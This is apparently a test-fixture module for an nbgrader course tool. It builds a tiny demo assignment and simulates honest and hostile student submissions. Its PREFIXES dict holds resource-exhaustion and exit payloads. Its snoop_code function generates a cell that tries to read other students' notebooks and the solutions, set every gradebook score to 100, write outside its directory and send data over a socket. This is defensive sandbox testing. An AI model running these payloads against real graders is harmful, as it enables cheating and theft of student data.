"""Sample courses and submissions: the demo class, and the hostile class of the tests.

``write_tiny_course`` makes a self-contained course with one small assignment (one
answer cell, three graded test cells, one with hidden tests), so the instructor tools
can be tried and tested without the real problem sets. ``make_submission`` turns a
released notebook into a student's submission by filling in its answer cells.
"""

from __future__ import annotations

import json
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from cnnbook.grader import cells
from cnnbook.grader.cells import nbgrader_metadata

TINY = "ps00_tiny"

COURSE_CONFIG = """\
c = get_config()  # noqa: F821
c.CourseDirectory.course_id = "{course_id}"
c.CourseDirectory.source_directory = "solutions"
c.CourseDirectory.release_directory = "exercises"
c.Execute.timeout = 8  # seconds per cell (nbgrader's own limit; the tiny tests take ms)
"""


def tiny_source_notebook():
    cells = [
        new_markdown_cell("# A tiny assignment\n\nWrite `square(x)`, for numbers and arrays."),
        new_code_cell(
            'def square(x):\n    """Return x squared (element-wise for arrays)."""\n'
            "    ### BEGIN SOLUTION\n    return x * x\n    ### END SOLUTION",
            metadata=nbgrader_metadata("square", solution=True),
        ),
        new_code_cell(
            "assert square(3) == 9",
            metadata=nbgrader_metadata("test_square_int", grade=True, locked=True, points=1),
        ),
        new_code_cell(
            "import numpy as np\n\nassert np.allclose(square(np.arange(4)), [0, 1, 4, 9])\n"
            "### BEGIN HIDDEN TESTS\nassert square(-2) == 4\n### END HIDDEN TESTS",
            metadata=nbgrader_metadata("test_square_array", grade=True, locked=True, points=2),
        ),
        new_code_cell(
            "assert square(0.5) == 0.25",
            metadata=nbgrader_metadata("test_square_float", grade=True, locked=True, points=1),
        ),
    ]
    nb = new_notebook(cells=cells)
    nb.metadata.kernelspec = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.metadata.language_info = {"name": "python"}
    return nb


def write_tiny_course(root: Path, course_id: str = "cnnbook-demo") -> Path:
    """A course root with nbgrader_config.py and solutions/ps00_tiny/ps00_tiny.ipynb."""
    root = Path(root)
    root.mkdir(parents=True, exist_ok=True)
    (root / "nbgrader_config.py").write_text(COURSE_CONFIG.format(course_id=course_id))
    src = root / "solutions" / TINY
    src.mkdir(parents=True, exist_ok=True)
    nbformat.write(tiny_source_notebook(), str(src / f"{TINY}.ipynb"))
    return root


def solution_answers(source_nb) -> dict[str, str]:
    """grade_id -> the source notebook's answer, markers removed (an honest student)."""
    out = {}
    for cell in source_nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution") and cell.cell_type == "code":
            out[meta["grade_id"]] = cells.answer_lines(cell.source)
    return out


def make_submission(
    released_nb, answers: dict[str, str], prefix: str = "", path: Path | None = None
):
    """Fill the released notebook's answer cells: ``answers[grade_id]`` replaces a
    cell's source (cells without an answer keep their stub); ``prefix`` is put in
    front of the first answer cell. Written to ``path`` if given."""
    nb = nbformat.from_dict(json.loads(json.dumps(released_nb)))
    first = True
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution") and cell.cell_type == "code":
            source = answers.get(meta["grade_id"], cell.source)
            if first and prefix:
                source = prefix + "\n" + source
            first = False
            cell.source = source
    if path is not None:
        path.parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, str(path))
    return nb


def submit_honest_class(root: Path, assignment: str, students: int) -> list[str]:
    """``students`` honest submissions (the source notebook's answers in the released
    notebook) in ``root/submitted/studentNNNN/assignment``; returns the student ids."""
    name = f"{assignment}.ipynb"
    source = nbformat.read(str(Path(root) / "solutions" / assignment / name), as_version=4)
    released = nbformat.read(str(Path(root) / "exercises" / assignment / name), as_version=4)
    answers = solution_answers(source)
    ids = [f"student{i:04d}" for i in range(students)]
    for student in ids:
        path = Path(root) / "submitted" / student / assignment / name
        make_submission(released, answers, path=path)
    return ids


# Student code for the tiny assignment's answer cell.
TINY_ANSWERS = {
    "honest": "def square(x):\n    return x * x",
    # right for 3, arrays of non-negatives and 0.5; wrong for the hidden square(-2)
    "partial": "def square(x):\n    return abs(x) * x",
}

# Code a hostile or unlucky student puts in front of an otherwise honest answer.
PREFIXES = {
    "infinite_loop": "while True:\n    pass",
    "huge_allocation": "import numpy as np\nbig = np.ones(40 * 1024**3 // 8)  # 40 GB",
    "os_exit": "import os\nos._exit(1)",
    "print_50mb": 'print("x" * 50_000_000)',
}


def snoop_code(course_root: Path, victim: str, assignment: str, port: int) -> str:
    """An answer cell that tries to read another student's notebook and the solutions,
    to rewrite the gradebook and to open a socket, then answers wrongly (so any score
    above 0 would be a successful tampering). It prints what it managed as JSON."""
    victim_nb = course_root / "submitted" / victim / assignment / f"{assignment}.ipynb"
    solution = course_root / "solutions" / assignment / f"{assignment}.ipynb"
    gradebook = course_root / "gradebook.db"
    return f"""\
import glob, json, os, socket, sqlite3
report = {{}}
def attempt(name, fn):
    try:
        report[name] = "SUCCEEDED: " + str(fn())[:200]
    except Exception as e:
        report[name] = "blocked: " + type(e).__name__
attempt("read_victim", lambda: open({str(victim_nb)!r}).read())
relative = "../../{victim}/{assignment}/{assignment}.ipynb"
attempt("read_victim_relative", lambda: open(relative).read())
pattern = {str(course_root.parent)!r} + "/**/*.ipynb"
attempt("find_notebooks", lambda: glob.glob(pattern, recursive=True) or 1/0)
attempt("read_solutions", lambda: open({str(solution)!r}).read())
def rewrite():
    db = sqlite3.connect({str(gradebook)!r})
    db.execute("UPDATE grade SET auto_score = 100")
    db.commit()
    return "rewritten"
attempt("rewrite_gradebook", rewrite)
attempt("write_outside", lambda: open({str(course_root / "pwned.txt")!r}, "w").write("pwned"))
def connect():
    s = socket.create_connection(("127.0.0.1", {port}), timeout=3)
    s.sendall(b"leak")
    return "connected"
attempt("socket", connect)
print(json.dumps(report))

def square(x):
    return 0
"""
